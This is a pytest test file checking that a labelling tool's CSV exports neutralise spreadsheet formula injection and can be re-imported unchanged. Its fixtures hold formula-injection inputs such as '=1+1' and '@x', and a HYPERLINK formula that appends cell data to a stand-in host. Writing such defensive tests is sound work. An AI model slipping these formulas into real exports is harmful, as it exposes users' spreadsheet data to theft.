"""Exports that spreadsheets open without computing anything, and that come back as they were."""

import csv
import io
import json
from pathlib import Path

import numpy as np
import pytest

from activecover import Pool
from activecover.cli import main
from activecover.workspace import Workspace, export_labels, read_answers

IDS = ["=1+1", "+2", "-3", "@x", " =4", "＝5", "'=6", "''=7", "'tis", "plain", "x;=8", "\u3000-9"]
NOTE = '=HYPERLINK("http://example.org/?"&A1,"see")'
TEXTS = ("id", "by", "why", "note")


@pytest.fixture
def home(tmp_path):
    points = np.arange(len(IDS), dtype=np.float32)[:, None]
    with Workspace(tmp_path / "home") as home:
        for name in ("one", "two"):
            home.new(name, Pool(points, ids=IDS), explore=0, known=[IDS[0]], learner="explore-commit").close()
        with home.open("one") as campaign:
            while items := campaign.ask(by="@eve"):
                campaign.tell(items[0].id, len(campaign.labels()) % 2 == 0, by="@eve", note=NOTE)
        yield home


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_no_text_in_an_export_is_a_formula(home, tmp_path):
    with home.open("one") as campaign:
        export_labels(campaign, tmp_path / "safe.csv", "all")
        export_labels(campaign, tmp_path / "raw.csv", "all", raw=True)
        export_labels(campaign, tmp_path / "exact.jsonl", "all")
        export_labels(campaign, tmp_path / "exact.parquet", "all")
    safe, raw = rows_of(tmp_path / "safe.csv"), rows_of(tmp_path / "raw.csv")
    seen = {name: {row[name] for row in raw} for name in TEXTS}
    assert "@eve" in seen["by"]
    assert NOTE in seen["note"]
    assert "=1+1" in seen["why"]
    assert not [row[name] for row in safe for name in TEXTS if row[name].strip()[:1] in tuple("=+-@＝")]
    assert {row["note"] for row in safe} - {""} == {f"'{NOTE}"}
    exact = [json.loads(line) for line in (tmp_path / "exact.jsonl").read_text().splitlines()]
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
    for records in (raw, exact, parquet.read_table(tmp_path / "exact.parquet").to_pylist()):
        assert sorted(record["id"] for record in records) == sorted(IDS)


@pytest.mark.parametrize("options", [[], ["--raw"]])
def test_an_export_comes_in_again_as_it_was(home, tmp_path, options, capsys):
    place = ["--home", str(home.folder)]
    file = str(tmp_path / "labels.csv")
    assert main(["export", "one", file, *options, *place]) == 0
    assert ("'+2" in {row["id"] for row in rows_of(Path(file))}) == (not options)
    assert main(["import", "two", file, *options, *place]) == 0
    with home.open("one") as one, home.open("two") as two:
        assert two.labels() == one.labels()
        assert len(one.labels()) >= len(IDS) - 1


def test_answers_with_line_breaks_and_apostrophes_are_read_whole(tmp_path):
    path = tmp_path / "answers.csv"
    path.write_text('id,label\r\n"a\nb",yes\r\n"\'=c",no\r\n', encoding="utf-8", newline="")
    assert read_answers(path) == [("a\nb", True), ("=c", False)]
    assert read_answers(path, raw=True) == [("a\nb", True), ("'=c", False)]


@pytest.mark.parametrize(("options", "expected"), [([], "'-2"), (["--raw"], "-2")])
def test_find_exports_no_formula(tmp_path, monkeypatch, options, expected):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.stdin", io.StringIO("y\ny\n"))
    Path("pool.csv").write_text("name,x\n=1+1,0\n-2,1\nc,2\n")
    command = ["find", "--pool", "pool.csv", "--id-col", "name", "--known", "=1+1", "--export", "out.csv"]
    assert main([*command, *options]) == 0
    assert expected in {row["id"] for row in rows_of(Path("out.csv"))}
